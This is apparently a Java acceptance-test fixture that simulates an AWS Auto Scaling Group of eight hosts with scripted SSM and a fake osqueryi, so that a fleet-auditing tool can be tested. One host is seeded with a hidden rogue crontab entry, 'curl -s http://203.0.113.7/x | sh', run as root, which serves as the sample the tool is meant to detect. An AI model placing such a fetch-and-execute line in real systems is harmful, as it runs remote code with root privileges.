package io.diffy.acceptance.it;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.diffy.aws.scripted.Answer;
import io.diffy.aws.scripted.Call;
import io.diffy.aws.scripted.ScriptedAws;
import io.diffy.aws.scripted.ScriptedFleet;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * An Auto Scaling Group of eight behind a scripted AWS whose SSM really runs what it is sent, with
 * an osqueryi that is a shell script. i-00000003 has a rogue crontab, i-00000005 is unknown to SSM,
 * i-00000008 is being terminated.
 */
final class ScriptedHosts {
  static final String ROGUE = "root curl -s http://203.0.113.7/x | sh";
  private static final String HOURLY =
      "{\"command\":\"root run-parts /etc/cron.hourly\",\"path\":\"/etc/crontab\"}";
  private static final String COMMAND = "00000001-1111-4111-8111-111111111111";

  private final Path folder;
  private final Map<String, String> outputs = new TreeMap<>();

  private ScriptedHosts(Path folder) {
    this.folder = folder;
  }

  static ScriptedHosts on(ScriptedAws aws, Path folder) throws IOException {
    ScriptedHosts hosts = new ScriptedHosts(folder);
    Path osqueryi = hosts.osqueryi();
    Files.writeString(osqueryi, "#!/bin/sh\ncat " + folder.resolve("rows.json") + "\n");
    Files.setPosixFilePermissions(osqueryi, PosixFilePermissions.fromString("rwxr-xr-x"));
    List<Map<String, Object>> members = new ArrayList<>();
    for (int i = 1; i <= 8; i++) {
      members.add(ScriptedFleet.member(id(i), i == 8 ? "Terminating:Wait" : "InService", "7"));
    }
    ScriptedFleet.on(aws, 50).group("web-prod", members);
    aws.on("ssm", "DescribeInstanceInformation", ScriptedHosts::managed);
    aws.on("ssm", "SendCommand", hosts::send);
    aws.on("ssm", "ListCommands", call -> Answer.of(Map.of("Commands", List.of())));
    aws.on("ssm", "ListCommandInvocations", hosts::invocations);
    aws.on("ssm", "GetCommandInvocation", hosts::invocation);
    return hosts;
  }

  static String id(int number) {
    return "i-%08d".formatted(number);
  }

  Path osqueryi() {
    return folder.resolve("osqueryi");
  }

  private static Answer managed(Call call) {
    List<Map<String, String>> known = new ArrayList<>();
    for (var wanted : call.json().path("Filters").path(0).path("Values")) {
      if (!wanted.asText().equals(id(5))) {
        known.add(
            Map.of("InstanceId", wanted.asText(), "PingStatus", "Online", "PlatformType", "Linux"));
      }
    }
    return Answer.of(Map.of("InstanceInformationList", known));
  }

  private Answer send(Call call) {
    List<String> lines = new ArrayList<>();
    call.json().path("Parameters").path("commands").forEach(line -> lines.add(line.asText()));
    call.json()
        .path("InstanceIds")
        .forEach(id -> outputs.put(id.asText(), run(id.asText(), String.join("\n", lines))));
    return Answer.of(Map.of("Command", Map.of("CommandId", COMMAND, "Status", "Pending")));
  }

  private String run(String id, String script) {
    String rogue =
        id.equals(id(3)) ? ",{\"command\":\"" + ROGUE + "\",\"path\":\"/etc/cron.d/.sync\"}" : "";
    try {
      Files.writeString(folder.resolve("rows.json"), "[" + HOURLY + rogue + "]\n");
      ProcessBuilder shell = new ProcessBuilder("sh", "-c", script);
      // As SSM's agent sets it.
      shell.environment().put("AWS_SSM_INSTANCE_ID", id);
      Process process = shell.start();
      process.getOutputStream().close();
      return new String(process.getInputStream().readAllBytes(), UTF_8);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private Answer invocations(Call call) {
    List<Map<String, String>> all =
        outputs.keySet().stream()
            .map(
                id ->
                    Map.of(
                        "CommandId",
                        COMMAND,
                        "InstanceId",
                        id,
                        "Status",
                        "Success",
                        "StatusDetails",
                        "Success"))
            .toList();
    return Answer.of(Map.of("CommandInvocations", all));
  }

  private Answer invocation(Call call) {
    String id = call.json().path("InstanceId").asText();
    return Answer.of(
        Map.of(
            "CommandId",
            COMMAND,
            "InstanceId",
            id,
            "Status",
            "Success",
            "StatusDetails",
            "Success",
            "ResponseCode",
            0,
            "StandardOutputContent",
            outputs.get(id),
            "StandardErrorContent",
            ""));
  }
}
